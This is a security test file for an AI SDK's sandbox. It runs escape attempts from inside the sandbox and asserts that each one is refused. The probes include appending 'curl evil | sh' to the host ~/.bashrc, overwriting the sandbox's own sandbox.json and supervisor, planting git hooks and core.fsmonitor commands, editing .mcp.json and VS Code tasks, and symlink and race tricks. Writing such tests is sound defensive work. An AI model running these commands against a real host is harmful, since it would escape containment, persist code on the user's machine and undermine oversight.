// Writing outside what the sandbox owns: host directories, its own settings and supervisor, the
// places srt always protects, and the host side's own file operations turned against it with
// links planted in the workspace.
import { execFileSync } from 'node:child_process';
import { existsSync, lstatSync, readFileSync } from 'node:fs';
import { mkdir, readdir, writeFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

import { afterAll, beforeAll, expect } from 'vitest';

import { resumeSrtNetworkSandboxSession } from '../srt-lifecycle.js';
import { securityCategory } from './record.js';
import { brief, HomeDecoys, marker, SandboxPool, scratchDirectory } from './support.js';

const { attack } = securityCategory('filesystem-write');

let scratch: Awaited<ReturnType<typeof scratchDirectory>>;
let pool: SandboxPool;
/** A directory of the host outside every fence, holding a file each attack tries to reach. */
let outside: string;
const decoys = new HomeDecoys();

beforeAll(async () => {
  scratch = await scratchDirectory('write');
  pool = new SandboxPool(join(scratch.path, 'sandboxes'));
  outside = join(scratch.path, 'outside');
  await mkdir(outside);
  await writeFile(join(outside, 'target.txt'), 'original\n');
});
afterAll(async () => {
  await pool.destroyAll();
  await decoys.removeAll();
  await scratch.remove();
});

const targetIntact = () => expect(readFileSync(join(outside, 'target.txt'), 'utf8')).toBe('original\n');

for (const [where, path] of [
  ['/etc', '/etc/ai-sdk-security-probe'],
  ['/usr/local/bin', '/usr/local/bin/ai-sdk-security-probe'],
  ['/var/tmp', '/var/tmp/ai-sdk-security-probe'],
] as const) {
  attack(`write to ${where}`, 'refused: read-only', async () => {
    const session = await pool.create();
    const result = await session.run({ command: `echo x > ${path} && echo WROTE` });
    expect(result.stdout).not.toContain('WROTE');
    expect(existsSync(path)).toBe(false);
    return brief(result.stderr);
  });
}

attack("write to the host's /tmp", "lands in the sandbox's own /tmp, never the host's", async () => {
  const name = marker('tmp-probe');
  const session = await pool.create();
  const result = await session.run({ command: `echo x > /tmp/${name} && ls /tmp/${name}` });
  expect(existsSync(`/tmp/${name}`)).toBe(false);
  return `written inside (${brief(result.stdout)}), absent on the host`;
});

attack('write a file outside the fence through its host path', 'refused: read-only', async () => {
  const session = await pool.create();
  const result = await session.run({
    command: `echo pwned > ${outside}/target.txt; echo pwned > ${outside}/new.txt`,
  });
  targetIntact();
  expect(existsSync(join(outside, 'new.txt'))).toBe(false);
  return brief(result.stderr);
});

attack(
  "write the real home's shell rc file (~/.bashrc)",
  'refused: the home inside is an empty scratch',
  async () => {
    const rc = join(homedir(), '.bashrc');
    const before = existsSync(rc) ? readFileSync(rc, 'utf8') : undefined;
    const session = await pool.create();
    const result = await session.run({ command: `echo 'curl evil | sh' >> ${rc}; echo rc=$?` });
    expect(existsSync(rc) ? readFileSync(rc, 'utf8') : undefined).toBe(before);
    return `host ~/.bashrc unchanged (${brief(result.stdout)} inside, into the hiding tmpfs)`;
  },
);

attack(
  'rewrite its own sandbox.json (the rules it is resumed with)',
  'refused; the host copy is unchanged',
  async () => {
    const session = await pool.create();
    const settings = join(session.defaultWorkingDirectory, '..', '..', 'sandbox.json');
    const before = readFileSync(settings, 'utf8');
    await session.run({ command: `echo '{"hideHome":false}' > ${settings}; cp /dev/null ${settings}` });
    expect(readFileSync(settings, 'utf8')).toBe(before);
    return 'host sandbox.json unchanged';
  },
);

attack('replace its supervisor (.supervisor/supervisor.js)', 'refused: read-only', async () => {
  const session = await pool.create();
  const supervisor = join(session.defaultWorkingDirectory, '..', '..', '.supervisor', 'supervisor.js');
  const before = readFileSync(supervisor, 'utf8');
  const result = await session.run({
    command: `echo 'evil()' > ${supervisor}; echo rc=$?; rm -f ${supervisor}`,
  });
  expect(readFileSync(supervisor, 'utf8')).toBe(before);
  return brief(result.stderr || result.stdout);
});

attack(
  "plant a git hook in the workspace's repository (.git/hooks/pre-commit)",
  'refused: srt denies .git/hooks',
  async () => {
    const workspace = join(scratch.path, marker('repo'));
    await mkdir(workspace);
    execFileSync('git', ['init', '-q', workspace]);
    const session = await pool.create({ workspace });
    const result = await session.run({
      command:
        'printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo PLANTED',
    });
    expect(result.stdout, 'the hook was written: the host runs it on its next commit').not.toContain(
      'PLANTED',
    );
    expect(existsSync(join(workspace, '.git/hooks/pre-commit'))).toBe(false);
    return brief(result.stderr);
  },
);

attack(
  "rewrite the workspace repository's .git/config (core.hooksPath, core.fsmonitor)",
  'refused: srt denies .git/config',
  async () => {
    const workspace = join(scratch.path, marker('repo'));
    await mkdir(workspace);
    execFileSync('git', ['init', '-q', workspace]);
    const before = readFileSync(join(workspace, '.git/config'), 'utf8');
    const session = await pool.create({ workspace });
    await session.run({
      command:
        'git config core.fsmonitor "touch /tmp/pwned; false"; printf "[core]\\n\\thooksPath = /tmp\\n" >> .git/config',
    });
    expect(
      readFileSync(join(workspace, '.git/config'), 'utf8'),
      'the host runs core.fsmonitor on its next git status',
    ).toBe(before);
    return 'unchanged';
  },
);

const SETTINGS = ['.bashrc', '.vscode/tasks.json', '.mcp.json'];
const settingsScript =
  'echo evil > .bashrc; mkdir -p .vscode && echo "{\\"evil\\":1}" > .vscode/tasks.json; echo evil > .mcp.json';

attack(
  "change the workspace's shell and editor settings (.bashrc, .vscode/tasks.json, .mcp.json)",
  'refused: srt denies them',
  async () => {
    const workspace = join(scratch.path, marker('project'));
    await mkdir(join(workspace, '.vscode'), { recursive: true });
    for (const name of SETTINGS) await writeFile(join(workspace, name), 'original');
    const session = await pool.create({ workspace });
    await session.run({ command: settingsScript });
    const changed = SETTINGS.filter(name => readFileSync(join(workspace, name), 'utf8') !== 'original');
    expect(changed, 'changed in the workspace').toEqual([]);
    return 'none changed';
  },
);

attack(
  'create shell and editor settings the workspace lacks (.bashrc, .vscode/tasks.json, .mcp.json)',
  'refused: srt denies them',
  async () => {
    const workspace = join(scratch.path, marker('project'));
    await mkdir(workspace);
    const session = await pool.create({ workspace });
    await session.run({ command: settingsScript });
    const written = SETTINGS.filter(name => {
      const path = join(workspace, name);
      return existsSync(path) && lstatSync(path).isFile() && readFileSync(path, 'utf8').length > 0;
    });
    expect(written, 'created in the workspace, where host tools read them').toEqual([]);
    return 'none created';
  },
);

attack(
  'host writeTextFile through a planted symlink (ws/link -> a host file)',
  'fails inside the fence; the target is unchanged',
  async () => {
    const session = await pool.create();
    await session.run({ command: `ln -s ${outside}/target.txt link` });
    const error = await Promise.resolve(session.writeTextFile({ path: 'link', content: 'pwned\n' })).catch(
      (e: Error) => e,
    );
    targetIntact();
    expect(error).toBeInstanceOf(Error);
    return `${(error as Error).name}: ${brief((error as Error).message, 90)}`;
  },
);

attack(
  'host readTextFile through a planted symlink into the hidden home',
  'does not leak the file',
  async () => {
    const secret = marker('home-file');
    const path = await decoys.plant(`.decoy-link-${marker('name')}`, secret);
    const session = await pool.create();
    await session.run({ command: `ln -s ${path} link` });
    const text = await Promise.resolve(session.readTextFile({ path: 'link' })).catch(
      (e: Error) => `${e.name}: ${e.message}`,
    );
    expect(String(text)).not.toContain(secret);
    return `read gave ${text === null ? 'null (not found)' : brief(String(text), 80)}`;
  },
);

attack(
  'host writeTextFile into a directory symlink (ws/dir -> a host directory)',
  'fails; nothing created there',
  async () => {
    const session = await pool.create();
    await session.run({ command: `ln -s ${outside} dir` });
    const error = await Promise.resolve(
      session.writeTextFile({ path: 'dir/new.txt', content: 'pwned' }),
    ).catch((e: Error) => e);
    expect(existsSync(join(outside, 'new.txt'))).toBe(false);
    expect(error).toBeInstanceOf(Error);
    return `${(error as Error).name}`;
  },
);

attack(
  'hard link a host file into the workspace, then write it',
  'refused: cross-device / read-only',
  async () => {
    const session = await pool.create();
    const result = await session.run({
      command: `ln ${outside}/target.txt hard && echo pwned > hard && echo LINKED`,
    });
    targetIntact();
    expect(result.stdout).not.toContain('LINKED');
    return brief(result.stderr);
  },
);

attack(
  'swap a directory for a symlink in a loop while the host writes into it',
  'every write stays inside',
  async () => {
    const session = await pool.create();
    const swapper = await session.spawn({
      command: `while :; do rm -rf race; mkdir race; rm -rf race; ln -s ${outside} race; done`,
    });
    let failures = 0;
    for (let i = 0; i < 150; i++) {
      await Promise.resolve(session.writeTextFile({ path: `race/file-${i}.txt`, content: 'pwned' })).catch(
        () => (failures += 1),
      );
    }
    await swapper.kill();
    const planted = (await readdir(outside)).filter(name => name !== 'target.txt');
    expect(planted).toEqual([]);
    targetIntact();
    return `150 writes, ${failures} failed, 0 reached ${outside}`;
  },
);

attack(
  'swap sandbox/tmp for a symlink to a host directory, then get resumed',
  'the next start binds a fresh directory',
  async () => {
    const victim = join(scratch.path, marker('victim'));
    await mkdir(victim);
    await writeFile(join(victim, 'secret.txt'), 'host secret\n');
    const sandboxId = marker('resumed');
    const session = await pool.create({ sandboxId });
    const own = join(session.defaultWorkingDirectory, '..');
    await session.run({
      command: `cd ${own} && mv tmp tmp.old && ln -s ${victim} tmp; mv home home.old && ln -s ${victim} home`,
    });
    await session.stop();
    const resumed = await resumeSrtNetworkSandboxSession({ sandboxId, directory: pool.directory });
    try {
      const result = await resumed.run({
        command: 'cat /tmp/secret.txt; echo pwned > /tmp/owned; echo pwned > $HOME/owned',
      });
      expect(result.stdout, 'the host directory was bound as /tmp').not.toContain('host secret');
      expect(await readdir(victim)).toEqual(['secret.txt']);
      return 'resumed with its own empty /tmp and home';
    } finally {
      await resumed.destroy();
    }
  },
);

attack(
  'plant a symlink to a host directory, then have the sandbox destroyed',
  'destroy removes the link, not its target',
  async () => {
    const session = await pool.create();
    await session.run({ command: `ln -s ${outside} escape; ln -s ${outside}/target.txt file; ln -s / root` });
    await session.destroy();
    targetIntact();
    expect(existsSync(outside)).toBe(true);
    return 'target intact';
  },
);
